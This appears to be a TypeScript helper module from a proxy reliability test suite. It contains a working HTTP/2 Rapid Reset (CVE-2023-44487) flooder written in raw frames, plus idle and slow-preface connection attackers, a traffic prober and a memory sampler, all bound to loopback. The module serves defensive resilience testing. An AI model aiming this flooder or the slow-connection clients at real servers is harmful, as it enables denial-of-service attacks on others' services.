/**
 * Hostile clients for the reliability suite: an HTTP/2 rapid-reset attacker written in raw frames (cheap enough to
 * out-run the proxy from the same process), idle and slow-preface connections, a normal-traffic prober that records
 * each request's outcome and time, and a peak-RSS sampler. Loopback only; every loop is bounded in time.
 */
import * as http from 'node:http';
import * as net from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

/** A 9-byte frame header (RFC 9113 §4.1) followed by `payload`. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const b = Buffer.alloc(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(streamId & 0x7fffffff, 5);
  payload.copy(b, 9);
  return b;
}

/** The client preface, an empty SETTINGS and a SETTINGS ACK (for the server's). */
export function clientStart(): Buffer {
  return Buffer.concat([PREFACE, frame(4, 0, 0), frame(4, 1, 0)]);
}

/** HPACK for `GET / http, :authority: <host>` plus `extra` literal headers (all without indexing). */
export function headerBlock(host: string, extra: [string, string][] = []): Buffer {
  const parts: Buffer[] = [Buffer.from([0x82, 0x84, 0x86])]; // :method GET, :path /, :scheme http (static table)
  parts.push(Buffer.from([0x01]), hpackString(host)); // :authority (static index 1), literal, not indexed
  for (const [name, value] of extra) parts.push(Buffer.from([0x00]), hpackString(name), hpackString(value));
  return Buffer.concat(parts);
}

/** An HPACK string literal without Huffman coding (RFC 7541 §5.2) with its integer length prefix (RFC 7541 §5.1, N = 7). */
function hpackString(s: string): Buffer {
  const bytes = Buffer.from(s, 'latin1');
  const len: number[] = [];
  if (bytes.length < 127) {
    len.push(bytes.length);
  } else {
    len.push(127);
    let rest = bytes.length - 127;
    while (rest >= 128) {
      len.push((rest % 128) + 128);
      rest = Math.floor(rest / 128);
    }
    len.push(rest);
  }
  return Buffer.concat([Buffer.from(len), bytes]);
}

/** HEADERS (END_STREAM | END_HEADERS) for stream `id`. */
export function headersFrame(id: number, block: Buffer): Buffer {
  return frame(1, 0x5, id, block);
}

const RST_CANCEL = Buffer.from([0, 0, 0, 8]);

export interface RapidResetResult {
  /** HEADERS + RST_STREAM pairs written. */
  streams: number;
  /** TCP connections opened (each closed by the server or at the end). */
  connections: number;
}

/**
 * CVE-2023-44487: on `connections` parallel connections, each reconnecting when closed, writes batches of `batch`
 * HEADERS + RST_STREAM(CANCEL) pairs as fast as the socket takes them, for `durationMs`.
 */
export async function rapidReset(
  port: number,
  opts: { connections: number; durationMs: number; batch?: number; host?: string; split?: boolean },
): Promise<RapidResetResult> {
  const batch = opts.batch ?? 100;
  const block = headerBlock(opts.host ?? 'a');
  const end = Date.now() + opts.durationMs;
  const result: RapidResetResult = { streams: 0, connections: 0 };
  const one = async (): Promise<void> => {
    while (Date.now() < end) {
      result.connections++;
      await new Promise<void>((resolve) => {
        const sock = net.connect(port, '127.0.0.1');
        let id = 1;
        let open = true;
        const stop = setTimeout(() => sock.destroy(), Math.max(0, end - Date.now()));
        const finish = (): void => {
          open = false;
          clearTimeout(stop);
          resolve();
        };
        sock.on('error', () => undefined);
        sock.once('close', finish);
        sock.resume(); // the server's frames are read and dropped
        const pump = (): void => {
          while (open && Date.now() < end) {
            const heads: Buffer[] = [];
            const resets: Buffer[] = [];
            for (let i = 0; i < batch && id < 0x7ffffff0; i++, id += 2) {
              heads.push(headersFrame(id, block));
              resets.push(frame(3, 0, id, RST_CANCEL));
            }
            result.streams += heads.length;
            if (opts.split === true) {
              // HEADERS in one write, their resets a little later: the server has dispatched the streams by then.
              sock.write(Buffer.concat(heads));
              setTimeout(() => {
                if (open) sock.write(Buffer.concat(resets));
                setImmediate(pump);
              }, 1);
              return;
            }
            const both: Buffer[] = [];
            for (let i = 0; i < heads.length; i++) both.push(heads[i] as Buffer, resets[i] as Buffer);
            if (!sock.write(Buffer.concat(both))) {
              sock.once('drain', () => setImmediate(pump));
              return;
            }
          }
          if (open) sock.destroy();
        };
        sock.once('connect', () => {
          sock.write(clientStart());
          pump();
        });
      });
    }
  };
  await Promise.all(Array.from({ length: opts.connections }, one));
  return result;
}

export interface Probe {
  /** ms since the prober started. */
  atMs: number;
  ok: boolean;
}

/**
 * Normal traffic: `concurrency` loops of HTTP/1.1 GETs, each on its own connection with a `timeoutMs` deadline (a
 * request that takes longer counts as failed), until `stop()` returns true. 200 is success.
 */
export async function probeTraffic(
  port: number,
  opts: { concurrency: number; timeoutMs: number; stop: () => boolean; headers?: http.OutgoingHttpHeaders; path?: string },
): Promise<{ t0: number; probes: Probe[] }> {
  const t0 = Date.now();
  const probes: Probe[] = [];
  const loop = async (): Promise<void> => {
    while (!opts.stop()) {
      const ok = await new Promise<boolean>((resolve) => {
        const req = http.request({ host: '127.0.0.1', port, path: opts.path ?? '/', headers: opts.headers, agent: false }, (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode === 200));
          res.on('error', () => resolve(false));
        });
        req.setTimeout(opts.timeoutMs, () => {
          req.destroy();
          resolve(false);
        });
        req.on('error', () => resolve(false));
        req.end();
      });
      probes.push({ atMs: Date.now() - t0, ok });
      if (!ok) await new Promise((r) => setTimeout(r, 10));
    }
  };
  await Promise.all(Array.from({ length: opts.concurrency }, loop));
  return { t0, probes };
}

/** Samples this process's RSS every 50 ms; `stop()` returns the peak in MB. */
export function rssSampler(): { stop(): number } {
  let peak = process.memoryUsage.rss();
  const t = setInterval(() => (peak = Math.max(peak, process.memoryUsage.rss())), 50);
  return {
    stop() {
      clearInterval(t);
      peak = Math.max(peak, process.memoryUsage.rss());
      return Math.round(peak / 1e6);
    },
  };
}

/** Opens an h2c connection, sends the preface and SETTINGS, then nothing. Resolves when the server closes it. */
export function idleH2(port: number): { closed: Promise<number>; socket: net.Socket } {
  const t0 = Date.now();
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.resume();
  socket.once('connect', () => socket.write(clientStart()));
  return { socket, closed: new Promise((r) => socket.once('close', () => r(Date.now() - t0))) };
}

/** Writes the h2 preface one byte per `gapMs`. Resolves with the ms until the server closed the connection. */
export function slowPreface(port: number, gapMs: number): { closed: Promise<number>; socket: net.Socket } {
  const t0 = Date.now();
  const socket = net.connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  socket.resume();
  let i = 0;
  const t = setInterval(() => {
    if (i < PREFACE.length && socket.writable) socket.write(PREFACE.subarray(i, ++i));
  }, gapMs);
  return {
    socket,
    closed: new Promise((r) =>
      socket.once('close', () => {
        clearInterval(t);
        r(Date.now() - t0);
      }),
    ),
  };
}
